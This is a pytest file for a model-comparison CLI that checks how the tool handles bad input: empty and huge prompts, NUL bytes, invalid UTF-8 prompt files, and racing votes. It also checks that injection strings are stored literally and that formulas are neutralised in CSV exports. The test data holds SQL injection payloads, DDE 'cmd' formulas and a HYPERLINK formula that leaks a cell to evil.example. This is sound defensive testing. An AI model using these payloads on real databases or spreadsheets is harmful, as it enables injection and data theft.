"""Bad input: empty and huge prompts, NUL bytes, broken prompt-set files, awkward text, formulas,
and two votes for one battle at the same moment.

The command line runs in process (`desktop.cli.main`) against the loopback fake server and the
tiny GGUF, so these run fast; a few cases use real processes where the process boundary is the
point (exit status, two processes racing).
"""

from __future__ import annotations

import csv
import io
import json
import re
import sys
import threading

import pytest

from desktop.cli import main
from desktop.core.contenders.base import CancelToken
from desktop.core.battle.engine import Battle, run_contender
from desktop.core.contenders.params import GenerationParams, Request
from desktop.core.battle.specs import make_contender
from desktop.core.store import get_battle, list_battles, open_store
from tests.providers.fake_server import PROTOCOLS, Reply
from tests.providers.helpers import contender_for
from tests.reliability.support import assert_plain, query, sidebyside, spawn
from tests.store.helpers import battle

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def run_cli(capsys, monkeypatch, *args, stdin: str | None = None) -> tuple[int, str, str]:
    if stdin is not None:
        monkeypatch.setattr(sys, "stdin", io.StringIO(stdin))
    code = main([str(a) for a in args])
    out, err = capsys.readouterr()
    assert_plain(err)
    return code, out, err


def ask_json(capsys, monkeypatch, server, prompt: str, *extra: str, right: str | None = None):
    """`ask - --json` (the prompt on standard input, so any text at all can be sent): compat:
    on the left, OpenAI (or `right`) on the right, both on the fake server."""
    for name, value in server.env().items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("OPENAI_API_KEY", "sk-test-bad-input")
    code, out, err = run_cli(capsys, monkeypatch, "ask", "-", "--json", "--left",
                             server.compat_spec(), "--right", right or "openai:gpt-4o-mini",
                             *extra, stdin=prompt)
    return code, json.loads(out), err


def read_csv(path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def database(home) -> str:
    return str(home / "sidebyside.db")


# --- empty prompts --------------------------------------------------------------------------------

EMPTY_PROMPTS = {
    "argument_empty": ("argument", ""),
    "argument_spaces": ("argument", "   "),
    "argument_whitespace_lines": ("argument", "\n\t \r\n"),
    "argument_missing": ("argument", None),
    "stdin_empty": ("stdin", ""),
    "stdin_spaces": ("stdin", "   "),
    "stdin_whitespace_lines": ("stdin", "\n\t \r\n"),
}


@pytest.mark.parametrize("case", list(EMPTY_PROMPTS))
def test_an_empty_prompt_is_refused_with_exit_2(case, server, capsys, monkeypatch, fresh_home):
    source, prompt = EMPTY_PROMPTS[case]
    args = ["ask", "--left", server.compat_spec(), "--right", server.compat_spec()]
    if source == "stdin":
        code, out, err = run_cli(capsys, monkeypatch, *args, "-", stdin=prompt)
    else:
        code, out, err = run_cli(capsys, monkeypatch, *args, *([prompt] if prompt is not None else []))
    assert code == 2
    assert "empty" in err or "give a PROMPT" in err
    assert not server.requests  # nothing was sent
    assert not (fresh_home / "sidebyside.db").exists() or query(
        database(fresh_home), "SELECT count(*) FROM battles") == [(0,)]


def test_an_empty_prompt_exits_2_from_a_real_process(server):
    result = sidebyside("ask", "  ", "--left", server.compat_spec(), "--right",
                        server.compat_spec())
    assert result.returncode == 2
    assert "the prompt is empty" in result.stderr
    assert_plain(result.stderr)


# --- a 1 MB prompt --------------------------------------------------------------------------------

MEGA = ("A long prompt line with ünïcode ✓ and words. " * 23_000)[:1_000_000]


def _sent_prompt(protocol: str, body: dict) -> str:
    if protocol == "anthropic":
        return body["messages"][0]["content"]
    if protocol == "gemini":
        return body["contents"][0]["parts"][0]["text"]
    return body["messages"][-1]["content"]


@pytest.mark.parametrize("protocol", PROTOCOLS)
def test_a_1mb_prompt_reaches_each_provider_whole(protocol, server):
    other = "openai" if protocol != "openai" else "anthropic"
    battle_ = Battle(contender_for(protocol, server), contender_for(other, server),
                     Request(MEGA, GenerationParams(max_tokens=16))).run()
    assert battle_["left"].ok and battle_["right"].ok, (battle_["left"].error, battle_["right"].error)
    (request,) = server.requests_for(protocol)
    assert _sent_prompt(protocol, request.body) == MEGA


def test_a_1mb_prompt_through_the_cli_is_saved_whole(server, capsys, monkeypatch, fresh_home):
    code, data, _ = ask_json(capsys, monkeypatch, server, MEGA)
    assert code == 0
    store = open_store()
    try:
        assert get_battle(store, data["battle_id"]).prompt == MEGA
    finally:
        store.close()


def test_a_1mb_prompt_to_the_local_model_is_a_context_error_with_numbers(tiny_model,
                                                                            local_pool):
    contender = make_contender(f"local:{tiny_model}", local_pool=local_pool)
    params = GenerationParams(max_tokens=16, n_ctx=256)
    answer = run_contender(contender, Request(MEGA, params), CancelToken(), lambda *a: None)
    assert answer.error is not None and answer.error.kind == "context_length"
    message = answer.error.message
    assert_plain(message)
    assert re.search(r"prompt is \d{1,3}(,\d{3})+ tokens", message), message
    assert "256" in message and "16" in message and "n_ctx" in message
    # The same worker answers the next, ordinary prompt.
    again = run_contender(contender, Request("Hi", params), CancelToken(), lambda *a: None)
    assert again.error is None and again.output_tokens


# --- NUL bytes ------------------------------------------------------------------------------------

NUL_PROMPT = "before\x00after, and \x00\x00 twice"


def test_nul_bytes_in_prompt_and_answer_are_stored_and_exported_safely(
        server, tiny_model, capsys, monkeypatch, fresh_home, tmp_path):
    server.script("compat", Reply(pieces=["nul\x00in", " the answer"]))
    code, data, _ = ask_json(capsys, monkeypatch, server, NUL_PROMPT, "--n-ctx", "256",
                             "--max-tokens", "8", right=f"local:{tiny_model}")
    assert code == 0, data
    assert data["left"]["text"] == "nul\x00in the answer"
    assert _sent_prompt("compat", server.requests_for("compat")[0].body) == NUL_PROMPT
    store = open_store()
    try:
        saved = get_battle(store, data["battle_id"])
        assert saved.prompt == NUL_PROMPT and saved.a.text == "nul\x00in the answer"
    finally:
        store.close()
    assert run_cli(capsys, monkeypatch, "vote", data["battle_id"], "a")[0] == 0
    out = tmp_path / "votes.csv"
    assert run_cli(capsys, monkeypatch, "export", "votes", out, "--answers")[0] == 0
    (row,) = read_csv(out)
    assert row["prompt"] == NUL_PROMPT and row["answer_a"] == "nul\x00in the answer"
    assert run_cli(capsys, monkeypatch, "export", "tallies", tmp_path / "t.csv")[0] == 0


# --- prompt-set files with invalid UTF-8 ------------------------------------------------------------

PROMPT_SETS = {
    "txt": (b"First prompt\n\xff\xfe broken line\nThird prompt \xc3\xa9\ncaf\xe9 latin-1\n"
            b"Fifth \xf0\x9f\x98\x80\n",
            ["First prompt", "Third prompt é", "Fifth 😀"], [2, 4]),
    "csv": (b'prompt,category\n"First, quoted",coding\nbad \xff cell,other\n'
            b'"multi\nline \xc3\xa9",creative\n"multi\nline \xfe bad",creative\nLast,\n',
            ["First, quoted", "multi\nline é", "Last"], [3, 6]),
    "jsonl": (b'{"prompt": "First"}\n{"prompt": "bad \xff"}\n{"prompt": "Second \\u00e9"}\n'
              b'\xc0\xaf{"prompt": "overlong"}\n{"prompt": "Third"}\n',
              ["First", "Second é", "Third"], [2, 4]),
}


@pytest.mark.parametrize("suffix", list(PROMPT_SETS))
def test_invalid_utf8_lines_in_prompt_sets_are_reported_and_the_rest_run(
        suffix, server, tiny_model, tmp_path, capsys, monkeypatch, fresh_home):
    raw, good, bad_lines = PROMPT_SETS[suffix]
    path = tmp_path / f"prompts.{suffix}"
    path.write_bytes(raw)
    code, out, err = run_cli(capsys, monkeypatch, "ask", "--file", path, "--blind", "--json",
                             "--left", server.compat_spec(), "--right", f"local:{tiny_model}",
                             "--n-ctx", "256", "--max-tokens", "4")
    assert code == 0, out + err
    for line in bad_lines:
        assert f"prompts.{suffix} line {line}: not valid UTF-8" in err
    assert err.count("not valid UTF-8") == len(bad_lines)
    assert f"Ran {len(good)} of {len(good)} prompts" in err
    results = [json.loads(line) for line in out.splitlines() if line.strip()]
    assert len(results) == len(good)
    prompts = [r[0] for r in query(database(fresh_home), "SELECT prompt FROM battles ORDER BY rowid")]
    assert prompts == good


# --- awkward text: right-to-left, emoji, SQL ---------------------------------------------------------

AWKWARD = {
    "rtl_and_emoji": "שלום עולם! مرحبا بالعالم 👋🏽 👨‍👩‍👧 \u202eevil.exe\u202c and 𝕳𝖊𝖑𝖑𝖔",
    "sql_drop_votes": "'); DROP TABLE votes;--",
    "sql_drop_battles": "Robert'); DROP TABLE battles; --",
    "sql_or_true": "\" OR 1=1 -- and ' OR '1'='1",
    "like_wildcards": "100%_done \\ with a backslash",
    "quotes_commas_newlines": 'He said, "hi",\r\nthen left;\n\n\tindented',
}


@pytest.mark.parametrize("name", list(AWKWARD))
def test_awkward_text_round_trips_through_the_database_and_csv(name, server, capsys,
                                                               monkeypatch, fresh_home, tmp_path):
    text = AWKWARD[name]
    server.script("compat", Reply(pieces=[text, " (echo)"]))
    code, data, _ = ask_json(capsys, monkeypatch, server, text, f"--category=cat {text[:20]}")
    assert code == 0, data
    answer = text + " (echo)"
    assert data["left"]["text"] == answer
    store = open_store()
    try:
        saved = get_battle(store, data["battle_id"])
        assert saved.prompt == text and saved.a.text == answer
        # Searching the history for the text finds this battle and only by its literal text.
        assert [s.id for s in list_battles(store, query=text[:12])] == [saved.id]
    finally:
        store.close()
    assert run_cli(capsys, monkeypatch, "vote", data["battle_id"], "b")[0] == 0
    out = tmp_path / "votes.csv"
    assert run_cli(capsys, monkeypatch, "export", "votes", out, "--answers")[0] == 0
    (row,) = read_csv(out)
    assert row["prompt"] == text and row["answer_a"] == answer
    assert row["answer_b"] == Reply().expected_text
    assert row["category"].lstrip("'") == data["category"]
    # Every table is still there and holds what it should.
    tables = {r[0] for r in query(database(fresh_home),
                                  "SELECT name FROM sqlite_master WHERE type = 'table'")}
    assert {"battles", "answers", "votes"} <= tables
    assert query(database(fresh_home), "SELECT count(*) FROM votes") == [(1,)]
    assert query(database(fresh_home), "SELECT count(*) FROM answers") == [(2,)]


# --- spreadsheet formulas -------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1.5",
]


# A bare number, as numeric columns (metrics, ratings) are written.
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?\Z")


def _cell_is_safe(cell: str) -> bool:
    """A spreadsheet runs nothing in this cell: it does not start like a formula, or it is a
    bare number from a numeric column."""
    return not cell.startswith(FORMULA_START) or bool(_PLAIN_NUMBER.match(cell))


def test_formulas_in_prompts_answers_models_and_categories_are_neutralised_in_both_csvs(
        server, capsys, monkeypatch, fresh_home, tmp_path):
    ids = []
    for n, formula in enumerate(FORMULAS):
        # The answer, the reported model name and the category are formulas too.
        server.script("compat", Reply(pieces=[formula], model=FORMULAS[-2 - n % 3]))
        category = FORMULAS[n % 4] if n % 4 != 2 else "-SUM(1)"
        code, data, _ = ask_json(capsys, monkeypatch, server, formula, f"--category={category}")
        assert code == 0, data
        ids.append(data["battle_id"])
        assert run_cli(capsys, monkeypatch, "vote", data["battle_id"], "ab"[n % 2])[0] == 0
    votes, answers, tallies = (tmp_path / n for n in ("votes.csv", "answers.csv", "tallies.csv"))
    assert run_cli(capsys, monkeypatch, "export", "votes", votes)[0] == 0
    assert run_cli(capsys, monkeypatch, "export", "votes", answers, "--answers")[0] == 0
    assert run_cli(capsys, monkeypatch, "export", "tallies", tallies)[0] == 0

    for path in (votes, answers, tallies):
        rows = read_csv(path)
        assert rows
        for row in rows:
            for column, cell in row.items():
                assert _cell_is_safe(cell), f"{path.name} {column}: {cell!r} could run"
    by_id = {row["battle_id"]: row for row in read_csv(answers)}
    for battle_id, formula in zip(ids, FORMULAS):
        row = by_id[battle_id]
        expected = "'" + formula  # typed text, even "+1" or "-1.5", is always neutralised
        assert row["prompt"] == expected and row["answer_a"] == expected
        assert row["model_a"].startswith("'")
    categories = {row["category"] for row in read_csv(tallies)}
    assert {"'=HYPERLINK(", "'@SUM(A1:A9)", "'-SUM(1)"} <= {c[:12] if c.startswith("'=HY") else c
                                                           for c in categories}


# --- two votes for one battle at the same moment --------------------------------------------------

def test_two_votes_at_once_from_two_threads_keep_exactly_one(capfd, fresh_home):
    store = open_store()
    ids = [battle(store, prompt=f"race {i}").id for i in range(12)]
    store.close()
    for battle_id in ids:
        codes: dict[str, int] = {}
        barrier = threading.Barrier(2)

        def vote(choice: str) -> None:
            barrier.wait()
            codes[choice] = main(["vote", battle_id, choice])

        threads = [threading.Thread(target=vote, args=(c,)) for c in "ab"]
        for t in threads:
            t.start()
        for t in threads:
            t.join(60)
        out, err = capfd.readouterr()
        assert sorted(codes.values()) == [0, 1], (codes, err)
        winner = next(c for c, code in codes.items() if code == 0)
        assert "already has a vote" in err
        assert_plain(err)
        assert query(database(fresh_home), "SELECT choice FROM votes WHERE battle_id = ?",
                     battle_id) == [(winner,)]


def test_two_votes_at_once_from_two_processes_keep_exactly_one(fresh_home):
    store = open_store()
    ids = [battle(store, prompt=f"race {i}").id for i in range(5)]
    store.close()
    for battle_id in ids:
        procs = {c: spawn("vote", battle_id, c) for c in ("a", "b")}
        results = {c: (p.communicate(timeout=60), p.returncode) for c, p in procs.items()}
        codes = sorted(code for _, code in results.values())
        assert codes == [0, 1], results
        winner = next(c for c, (_, code) in results.items() if code == 0)
        loser = "b" if winner == "a" else "a"
        (_, loser_err), _ = results[loser]
        assert "already has a vote" in loser_err
        assert_plain(loser_err)
        assert query(database(fresh_home), "SELECT choice FROM votes WHERE battle_id = ?",
                     battle_id) == [(winner,)]
